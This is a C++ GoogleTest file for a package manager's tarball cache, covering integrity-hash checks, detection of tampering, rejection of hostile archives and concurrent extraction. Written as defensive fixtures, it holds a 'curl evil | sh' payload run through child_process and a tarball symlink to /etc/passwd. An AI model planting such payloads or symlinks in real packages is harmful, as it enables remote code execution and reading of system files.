#include "engine/resolve/tarball_cache.h"

#include "tests/engine/resolve/tar_builder.h"

#include <gtest/gtest.h>
#include <sys/stat.h>
#include <unistd.h>

#include <fstream>
#include <sstream>
#include <thread>

using namespace vigil::engine;
using namespace vigil::engine::resolve;
using vigil::test::TarBuilder;
namespace fs = std::filesystem;

namespace {

std::string readFile(const fs::path& p) {
    std::ifstream in(p, std::ios::binary);
    std::stringstream ss;
    ss << in.rdbuf();
    return ss.str();
}

std::size_t entriesIn(const fs::path& dir) {
    std::error_code ec;
    if (!fs::exists(dir, ec)) return 0;
    return static_cast<std::size_t>(std::distance(fs::directory_iterator(dir), fs::directory_iterator()));
}

class TarballCacheTest : public ::testing::Test {
protected:
    void SetUp() override {
        const auto* info = ::testing::UnitTest::GetInstance()->current_test_info();
        base_ = fs::temp_directory_path() / ("vigil-cache-" + std::string(info->name()) + "-" + std::to_string(::getpid()));
        fs::remove_all(base_);
        fs::create_directories(base_ / "downloads");
    }
    void TearDown() override { fs::remove_all(base_); }

    /// A small npm-like tarball at downloads/<name>.tgz.
    fs::path download(const std::string& name, const std::string& indexJs = "module.exports = 42;\n") {
        fs::path p = base_ / "downloads" / (name + ".tgz");
        TarBuilder(p).file("package/package.json", "{\"name\":\"" + name + "\"}").file("package/index.js", indexJs);
        return p;
    }
    std::string sri(const fs::path& file, HashAlgorithm algorithm = HashAlgorithm::Sha512) {
        auto d = digestOfFile(algorithm, file);
        EXPECT_TRUE(d.ok());
        return IntegrityHash{algorithm, d.ok() ? *d : std::string()}.toString();
    }

    fs::path base_;
    fs::path cacheRoot() const { return base_ / "cache"; }
};

}  // namespace

TEST_F(TarballCacheTest, StoreThenFindRoundTrip) {
    TarballCache cache(cacheRoot());
    fs::path dl = download("left-pad");
    const std::string integrity = sri(dl);
    const std::string bytes = readFile(dl);

    auto stored = cache.store(dl, integrity, "left-pad@1.3.0");
    ASSERT_TRUE(stored.ok()) << stored.error().describe();
    EXPECT_EQ(stored->integrity, integrity);
    EXPECT_FALSE(fs::exists(dl)) << "the download is moved, not copied";
    auto hex = Integrity::parse(integrity)->strongest().hex();
    EXPECT_EQ(stored->path, cacheRoot() / "content" / "sha512" / hex.substr(0, 2) / hex);
    EXPECT_EQ(readFile(stored->path), bytes);

    auto found = cache.find(integrity);
    ASSERT_TRUE(found.has_value());
    EXPECT_EQ(*found, stored->path);
    EXPECT_FALSE(cache.find(sri(download("other"))).has_value());
    EXPECT_FALSE(cache.find("not an integrity").has_value());
    EXPECT_EQ(entriesIn(cacheRoot() / "tmp"), 0u) << "staging is cleaned up";
}

TEST_F(TarballCacheTest, StoreWithoutExpectedIntegrityRecordsSha512) {
    TarballCache cache(cacheRoot());
    fs::path dl = download("no-integrity");
    const std::string expected = sri(dl);
    auto stored = cache.store(dl, "", "no-integrity@0.0.1");
    ASSERT_TRUE(stored.ok()) << stored.error().describe();
    EXPECT_EQ(stored->integrity, expected);
    EXPECT_EQ(cache.find(stored->integrity), stored->path);
}

TEST_F(TarballCacheTest, IntegrityMismatchIsRejectedAndNamesThePackage) {
    TarballCache cache(cacheRoot());
    const std::string honest = sri(download("evil-pkg", "honest"));
    fs::path dl = download("evil-pkg", "tampered in transit");
    const std::string actual = sri(dl);

    auto stored = cache.store(dl, honest, "evil-pkg@2.0.0");
    ASSERT_FALSE(stored.ok());
    const Error& e = stored.error();
    EXPECT_EQ(e.code, ErrorCode::Integrity);
    EXPECT_NE(e.primary.find("evil-pkg@2.0.0"), std::string::npos) << e.describe();
    EXPECT_NE(e.secondary.find("expected " + honest), std::string::npos) << e.describe();
    EXPECT_NE(e.secondary.find("got " + actual), std::string::npos) << e.describe();
    EXPECT_FALSE(cache.find(honest).has_value());
    EXPECT_FALSE(cache.find(actual).has_value());
    EXPECT_EQ(entriesIn(cacheRoot() / "tmp"), 0u);
}

TEST_F(TarballCacheTest, MalformedExpectedIntegrityIsAnInputError) {
    TarballCache cache(cacheRoot());
    auto stored = cache.store(download("x"), "sha512-!!", "x@1.0.0");
    ASSERT_FALSE(stored.ok());
    EXPECT_EQ(stored.error().code, ErrorCode::Input);
    EXPECT_NE(stored.error().primary.find("x@1.0.0"), std::string::npos);
}

TEST_F(TarballCacheTest, ExtractsOnceAndReusesTheTree) {
    TarballCache cache(cacheRoot());
    fs::path dl = download("pkg");
    const std::string integrity = sri(dl);
    ASSERT_TRUE(cache.store(dl, integrity, "pkg@1.0.0").ok());

    auto tree = cache.extracted(integrity, "pkg@1.0.0");
    ASSERT_TRUE(tree.ok()) << tree.error().describe();
    EXPECT_EQ(*tree, cacheRoot() / "extracted" / Integrity::parse(integrity)->strongest().hex());
    EXPECT_EQ(readFile(*tree / "index.js"), "module.exports = 42;\n");

    std::ofstream(*tree / "marker") << "same tree";
    auto again = cache.extracted(integrity, "pkg@1.0.0");
    ASSERT_TRUE(again.ok());
    EXPECT_EQ(*again, *tree);
    EXPECT_TRUE(fs::exists(*again / "marker")) << "a second call must not extract again";
}

TEST_F(TarballCacheTest, LegacySha1IntegrityIsStoredAndExtractedBySha512) {
    TarballCache cache(cacheRoot());
    fs::path dl = download("old-pkg");
    const std::string sha1 = sri(dl, HashAlgorithm::Sha1);
    const std::string sha512Hex = Integrity::parse(sri(dl))->strongest().hex();
    auto stored = cache.store(dl, sha1, "old-pkg@0.1.0");
    ASSERT_TRUE(stored.ok()) << stored.error().describe();
    EXPECT_EQ(stored->path.parent_path().parent_path().filename(), "sha1");
    auto tree = cache.extracted(sha1, "old-pkg@0.1.0");
    ASSERT_TRUE(tree.ok()) << tree.error().describe();
    EXPECT_EQ(tree->filename(), sha512Hex);
}

TEST_F(TarballCacheTest, TamperedCacheFileIsDetectedAndRemoved) {
    TarballCache cache(cacheRoot());
    fs::path dl = download("victim");
    const std::string integrity = sri(dl);
    auto stored = cache.store(dl, integrity, "victim@1.0.0");
    ASSERT_TRUE(stored.ok());

    // Someone with access to the cache swaps the content for another valid tarball.
    fs::path evil = download("victim", "require('child_process').exec('curl evil | sh')");
    fs::permissions(stored->path, fs::perms::owner_write, fs::perm_options::add);
    fs::copy_file(evil, stored->path, fs::copy_options::overwrite_existing);

    auto tree = cache.extracted(integrity, "victim@1.0.0");
    ASSERT_FALSE(tree.ok());
    EXPECT_EQ(tree.error().code, ErrorCode::Integrity);
    EXPECT_NE(tree.error().primary.find("victim@1.0.0"), std::string::npos) << tree.error().describe();
    EXPECT_NE(tree.error().secondary.find("expected " + integrity), std::string::npos) << tree.error().describe();
    EXPECT_FALSE(fs::exists(stored->path)) << "a corrupt cache entry must not be served again";
    EXPECT_EQ(entriesIn(cacheRoot() / "extracted"), 0u);

    auto missing = cache.extracted(integrity, "victim@1.0.0");
    ASSERT_FALSE(missing.ok());
    EXPECT_EQ(missing.error().code, ErrorCode::NotFound);
}

TEST_F(TarballCacheTest, TamperingAfterAVerifiedUseIsStillDetected) {
    // A verified tarball gets a stamp so warm rescans need not hash it again; a later change to
    // the file must void the stamp even when the size and the modification time are put back.
    TarballCache cache(cacheRoot());
    fs::path dl = download("victim", "module.exports = 1;");
    const std::string integrity = sri(dl);
    auto stored = cache.store(dl, integrity, "victim@1.0.0");
    ASSERT_TRUE(stored.ok());
    ASSERT_TRUE(cache.extracted(integrity, "victim@1.0.0").ok());
    const fs::path stamp = cacheRoot() / "verified" / stored->path.lexically_relative(cacheRoot() / "content");
    ASSERT_TRUE(fs::exists(stamp)) << "the successful check leaves a stamp";
    ASSERT_TRUE(cache.extracted(integrity, "victim@1.0.0").ok()) << "unchanged: served with the stamp";

    fs::path evil = download("victim", "module.exports = 2;");  // same length, other bytes
    ASSERT_EQ(fs::file_size(evil), fs::file_size(stored->path));
    const auto mtime = fs::last_write_time(stored->path);
    fs::permissions(stored->path, fs::perms::owner_write, fs::perm_options::add);
    {
        std::ofstream out(stored->path, std::ios::binary | std::ios::trunc);  // same inode
        out << readFile(evil);
    }
    fs::permissions(stored->path, fs::perms::owner_write, fs::perm_options::remove);
    fs::last_write_time(stored->path, mtime);

    auto tree = cache.extracted(integrity, "victim@1.0.0");
    ASSERT_FALSE(tree.ok()) << "the ctime moved: the stamp no longer vouches for the file";
    EXPECT_EQ(tree.error().code, ErrorCode::Integrity);
}

TEST_F(TarballCacheTest, HostileTarballLeavesNoTree) {
    TarballCache cache(cacheRoot());
    fs::path dl = base_ / "downloads" / "hostile.tgz";
    { TarBuilder(dl).file("package/index.js", "1").symlink("package/x", "/etc/passwd"); }
    const std::string integrity = sri(dl);
    ASSERT_TRUE(cache.store(dl, integrity, "hostile@6.6.6").ok());
    auto tree = cache.extracted(integrity, "hostile@6.6.6");
    ASSERT_FALSE(tree.ok());
    EXPECT_EQ(tree.error().code, ErrorCode::Unsafe);
    EXPECT_NE(tree.error().primary.find("hostile@6.6.6"), std::string::npos) << tree.error().describe();
    EXPECT_EQ(entriesIn(cacheRoot() / "extracted"), 0u);
    EXPECT_EQ(entriesIn(cacheRoot() / "tmp"), 0u);
}

TEST_F(TarballCacheTest, ConcurrentExtractionYieldsOneDirectory) {
    TarballCache cache(cacheRoot());
    fs::path dl = base_ / "downloads" / "big.tgz";
    {
        // Enough files that both threads are extracting at the same time.
        TarBuilder b(dl);
        for (int i = 0; i < 2000; ++i) b.file("package/f" + std::to_string(i) + ".js", std::to_string(i));
    }
    const std::string integrity = sri(dl);
    ASSERT_TRUE(cache.store(dl, integrity, "big@1.0.0").ok());

    Result<fs::path> first = makeError(ErrorCode::Internal, "not run");
    Result<fs::path> second = makeError(ErrorCode::Internal, "not run");
    std::thread t1([&] { first = cache.extracted(integrity, "big@1.0.0"); });
    std::thread t2([&] { second = cache.extracted(integrity, "big@1.0.0"); });
    t1.join();
    t2.join();
    ASSERT_TRUE(first.ok()) << first.error().describe();
    ASSERT_TRUE(second.ok()) << second.error().describe();
    EXPECT_EQ(*first, *second);
    EXPECT_EQ(entriesIn(cacheRoot() / "extracted"), 1u);
    EXPECT_EQ(entriesIn(*first), 2000u) << "the published tree is complete";
    EXPECT_EQ(entriesIn(cacheRoot() / "tmp"), 0u) << "the loser discarded its copy";
}
